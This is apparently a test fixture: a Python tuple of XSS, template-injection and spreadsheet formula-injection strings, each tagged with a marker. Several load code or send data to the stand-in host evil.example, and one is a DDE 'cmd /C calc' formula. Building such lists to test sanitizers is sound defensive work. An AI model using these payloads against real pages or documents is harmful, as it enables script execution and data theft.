"""Sixty things that people type when they want a page, a paper, a letter or a spreadsheet to run something.

Each has `{0}` where the mark goes by which it is found again. They end tags and attributes, hide in addresses, in
styles and comments, fool parsers that are not the browser's, and speak the languages of templates and formulas.
"""

STRINGS = (
    # a tag of its own
    "{0}<script>alert(1)</script>",
    "{0}<ScRiPt>alert(1)</sCrIpT>",
    "{0}<script/src=//evil.example/a.js></script>",
    "{0}<script\t>alert(1)</script >",
    "{0}<<script>alert(1);//<</script>",
    "{0}<img src=x onerror=alert(1)>",
    "{0}<img/src='x'/onerror=alert(1)>",
    "{0}<img src=x:x onerror\n=alert(1)//",
    "{0}<svg onload=alert(1)>",
    "{0}<svg/onload=alert(1)//",
    "{0}<svg><script>alert(1)</script></svg>",
    "{0}<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "{0}<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "{0}<iframe src=javascript:alert(1)>",
    "{0}<iframe srcdoc='<script>alert(1)</script>'>",
    "{0}<object data=javascript:alert(1)>",
    "{0}<embed src=javascript:alert(1)>",
    "{0}<body onload=alert(1)>",
    "{0}<details open ontoggle=alert(1)>",
    "{0}<video><source onerror=alert(1)>",
    "{0}<audio src=x onerror=alert(1)>",
    "{0}<input autofocus onfocus=alert(1)>",
    "{0}<select autofocus onfocus=alert(1)>",
    "{0}<marquee onstart=alert(1)>",
    "{0}<form action=javascript:alert(1)><button>Go on",
    "{0}<button formaction=javascript:alert(1)>Sign",
    "{0}<base href=//evil.example/>",
    "{0}<link rel=stylesheet href=//evil.example/a.css>",
    "{0}<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "{0}<style>@import '//evil.example/a.css'</style>",
    "{0}<div style='background:url(//evil.example/a)'>",
    "{0}<a href='javascript:alert(1)'>Chart</a>",
    "{0}<a href='&#106;avascript:alert(1)'>Chart</a>",
    "{0}<a href='data:text/html,<script>alert(1)</script>'>Chart</a>",
    "{0}<template><script>alert(1)</script></template>",
    "{0}<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    # what htmx and our own scripts would follow
    "{0}<div hx-get=/ hx-trigger=load hx-on:load=alert(1)>",
    "{0}<div data-hx-on-click=alert(1)>",
    "{0}<b data-confirm=alert(1) onx=1>",
    # out of an attribute
    '{0}"><script>alert(1)</script>',
    "{0}'><script>alert(1)</script>",
    '{0}" onmouseover=alert(1) x="',
    "{0}' onmouseover=alert(1) x='",
    "{0}` onmouseover=alert(1) x=`",
    '{0}" autofocus onfocus=alert(1) "',
    # out of what stands around it
    "{0}</title><script>alert(1)</script>",
    "{0}</textarea><script>alert(1)</script>",
    "{0}</script><script>alert(1)</script>",
    "{0}</style><script>alert(1)</script>",
    "{0}--><script>alert(1)</script>",
    "{0}]]><script>alert(1)</script>",
    # in an address, in a name
    "javascript:alert('{0}')",
    "java\tscript:alert('{0}')",
    "//evil.example/{0}",
    # to a template, to a spreadsheet
    "{0}{{{{ 7|add:7000042 }}}}{{% debug %}}",
    "{0}${{7*7000007}}#{{7*7000007}}",
    '=HYPERLINK("http://evil.example/{0}","Open")',
    "+1+cmd|' /C calc'!A0{0}",
    "-2+3{0}",
    "@SUM(1+1){0}",
)
